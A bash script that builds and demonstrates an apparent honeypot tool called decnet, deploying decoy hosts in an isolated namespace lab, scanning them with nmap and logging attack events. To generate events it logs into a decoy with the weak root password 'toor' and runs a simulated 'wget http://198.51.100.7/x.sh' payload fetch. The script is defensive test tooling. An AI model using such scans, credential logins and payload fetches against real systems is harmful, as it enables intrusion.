#!/usr/bin/env bash
# The main job on a fresh machine: builds decnet, puts the demo fleet (demo.ini: five deckies of three OS
# families) on a lab LAN made of network namespaces, and scans it from the lab's attacker. Nothing touches the
# machine's own network. Needs root (network namespaces) and Swift 6.1+; installs nmap and iproute2 with apt
# when they are missing.
#
#   sudo ./scripts/lab-demo.sh
#
# Afterwards: `decnet status`, `decnet lab exec -- ssh root@10.77.0.10` (password toor), the events in
# ./demo-state/events.log, and `decnet teardown --all && decnet lab down` to remove everything
# (with DECNET_STATE_DIR=./demo-state, which this script uses).
set -euo pipefail
cd "$(dirname "$0")/.."
if [ "$(id -u)" -ne 0 ]; then
    echo "lab-demo: network namespaces need root; run: sudo $0" >&2
    exit 1
fi
need=()
command -v ip >/dev/null || need+=(iproute2)
command -v nmap >/dev/null || need+=(nmap)
command -v redis-cli >/dev/null || need+=(redis-tools)
command -v sshpass >/dev/null || need+=(sshpass)
command -v ssh >/dev/null || need+=(openssh-client)
if [ "${#need[@]}" -gt 0 ]; then
    echo "lab-demo: installing ${need[*]}"
    DEBIAN_FRONTEND=noninteractive apt-get update -qq
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends "${need[@]}"
fi
swift build --product decnet
BIN=$(swift build --show-bin-path)/decnet
export DECNET_STATE_DIR="$PWD/demo-state" DECNET_INGEST_LOG_FILE="$PWD/demo-state/events.log"
mkdir -p "$DECNET_STATE_DIR"
"$BIN" deploy --lab --config demo.ini
echo
echo "== nmap -sV from the lab's attacker (10.77.0.254) =="
"$BIN" lab exec -- nmap -sV -n -T4 10.77.0.10-14
echo
echo "== a login attempt, and the event it left =="
"$BIN" lab exec -- redis-cli -h 10.77.0.10 -a Winter2024 --no-auth-warning PING || true
sleep 0.5
grep 'login' "$DECNET_INGEST_LOG_FILE" | tail -1
echo
echo "== an SSH login with the decky's weak root password, a command, and the events it left =="
"$BIN" lab exec -- sshpass -p toor ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o LogLevel=ERROR root@10.77.0.10 'uname -a; wget http://198.51.100.7/x.sh' || true
sleep 0.5
grep -E ' ssh - (login\.success|command\.input|file\.download) ' "$DECNET_INGEST_LOG_FILE" | tail -4
echo
echo "state and events: $DECNET_STATE_DIR    (DECNET_STATE_DIR=$DECNET_STATE_DIR $BIN status)"
echo "remove it all:    DECNET_STATE_DIR=$DECNET_STATE_DIR $BIN teardown --all && DECNET_STATE_DIR=$DECNET_STATE_DIR $BIN lab down"
